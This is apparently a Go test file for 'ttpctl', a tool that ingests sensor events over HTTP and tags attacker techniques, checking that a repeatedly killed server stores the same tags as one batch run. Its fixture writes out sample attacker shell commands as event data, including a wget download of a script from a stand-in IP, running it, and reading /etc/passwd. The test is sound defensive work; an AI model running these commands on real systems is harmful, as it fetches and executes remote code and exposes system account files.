package main

import (
	"bytes"
	"fmt"
	"math/rand/v2"
	"net"
	"net/http"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"ttpctl/internal/spool"
)

// sessionEvents returns events of sessions, a command each, interleaved: what
// sequences are made of lies in several events.
func sessionEvents(rounds int) (all []string) {
	commands := []string{"wget http://192.0.2.7/x.sh", "uname -a", "chmod 777 x.sh", "cat /etc/passwd", "sh x.sh", "rm -f x.sh"}
	const sessions = 8
	for round := range rounds {
		for i, text := range commands {
			for s := range sessions {
				all = append(all, fmt.Sprintf(`{"source_kind":"command","source_id":"c%d-%d-%d","attacker_ip":"203.0.113.%d","session_id":"s%d-%d","ts":"2026-11-30T10:%02d:%02dZ","payload":{"command_text":%q}}`,
					round, s, i, s+1, round, s, round%60, 8*i%60, text))
			}
		}
	}
	return all
}

// A sender posts events, a few a request, each request again under its key until
// it is answered.
type sender struct {
	url      string
	rng      *rand.Rand
	requests int
	repeated int
}

func (s *sender) send(events []string) error {
	for len(events) > 0 {
		n := min(len(events), 1+s.rng.IntN(15))
		body := strings.Join(events[:n], "\n")
		events = events[n:]
		s.requests++
		begin := time.Now()
		for {
			status, err := s.post(fmt.Sprint("batch-", s.requests), body)
			if status == http.StatusOK || status == http.StatusAccepted {
				break
			}
			if status != 0 && status != http.StatusConflict && status != http.StatusServiceUnavailable && status != http.StatusTooManyRequests {
				return fmt.Errorf("batch %d is answered %d", s.requests, status)
			}
			if time.Since(begin) > time.Minute {
				return fmt.Errorf("batch %d was not answered for a minute: %w", s.requests, err)
			}
			s.repeated++
			time.Sleep(5 * time.Millisecond)
		}
	}
	return nil
}

func (s *sender) post(key, body string) (status int, err error) {
	r, err := http.NewRequest("POST", s.url, strings.NewReader(body))
	if err != nil {
		return 0, err
	}
	r.Header.Set("Authorization", "Bearer "+sensorToken)
	r.Header.Set("Idempotency-Key", key)
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		return 0, err
	}
	return resp.StatusCode, resp.Body.Close()
}

// TestServeListenKilled: serve takes events over HTTP and is killed again and
// again, at any moment; who sends them repeats what was not answered. What is
// stored in the end is what one run of tag over all of them gives.
func TestServeListenKilled(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	in := func(name string) string { return filepath.Join(dir, name) }
	free, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	address := free.Addr().String()
	free.Close()
	events := sessionEvents(12)
	writeText(t, in("tokens"), "ingest "+sensorToken)
	writeText(t, in("whole.jsonl"), strings.Join(events, "\n")+"\n")
	var stderr bytes.Buffer
	serve := func(more ...string) *exec.Cmd {
		cmd := exec.Command("ttpctl", append([]string{"serve", "--db", in("t.db"), "--listen", address, "--listen-tokens-file", in("tokens"), "-o", "none"}, more...)...)
		cmd.Stderr = &stderr
		return cmd
	}
	kills, seed := killing(t)
	s := &sender{url: "http://" + address + "/v1/events", rng: rand.New(rand.NewPCG(seed, 60))}
	sent := make(chan error, 1)
	go func() { sent <- s.send(events) }()
	rng, over := rand.New(rand.NewPCG(seed, 61)), false
	for round := 0; !over; round++ {
		cmd := serve()
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		awaitServing(t, address)
		wait := time.Duration(rng.IntN(150)) * time.Millisecond
		if round >= kills {
			wait = time.Minute // the rest undisturbed
		}
		select {
		case err := <-sent:
			if over = true; err != nil {
				t.Error(err)
			}
		case <-time.After(wait):
		}
		cmd.Process.Kill()
		cmd.Wait()
	}
	if err := serve("--once").Run(); err != nil || strings.Contains(stderr.String(), "ERROR") {
		t.Errorf("serve --once: %v; serve said:\n%s", err, stderr.String())
	}
	tagged, err := exec.Command("ttpctl", "tag", "--db", "none", "-o", "jsonl", in("whole.jsonl")).Output()
	if err != nil {
		t.Fatal(err)
	}
	stored, err := exec.Command("ttpctl", "report", "tags", "--db", in("t.db"), "-o", "jsonl").Output()
	if err != nil {
		t.Fatal(err)
	}
	want := sortedLines(string(tagged))
	if diff := cmp.Diff(want, sortedLines(string(stored))); diff != "" || len(want) < len(events) {
		t.Errorf("%s\nafter %d requests, %d of them repeated (seed %d), stored tags differ from the %d of tag (-tag +serve):\n%.3000s", stderr.String(), s.requests, s.repeated, seed, len(want), diff)
	}
	t.Logf("%d requests, %d attempts repeated, %d tags", s.requests, s.repeated, len(want))
	if n := spooledLines(t, in("t.db.spool/http")); n != len(events) {
		t.Errorf("%d events were taken in, want each of %d once", n, len(events))
	}
}

// awaitServing waits until somebody listens on an address.
func awaitServing(t *testing.T, address string) {
	t.Helper()
	poll(t, "serve to listen", func() bool {
		conn, err := net.Dial("tcp", address)
		if err != nil {
			return false
		}
		return conn.Close() == nil
	})
}

// spooledLines returns how many lines a spool has taken in since it was made: the
// cursor behind a line more has the number of the line that follows it.
func spooledLines(t *testing.T, dir string) int {
	t.Helper()
	log, err := spool.Open(dir, spool.Options{})
	if err != nil {
		t.Fatal(err)
	}
	defer log.Close()
	end, err := log.Append(t.Context(), spool.Entry{Lines: []spool.Line{{Text: []byte("{}")}}})
	if err != nil {
		t.Fatal(err)
	}
	parts := strings.Split(string(end), ":")
	next, err := strconv.Atoi(parts[len(parts)-2])
	if err != nil {
		t.Fatal(err)
	}
	return next - 2
}
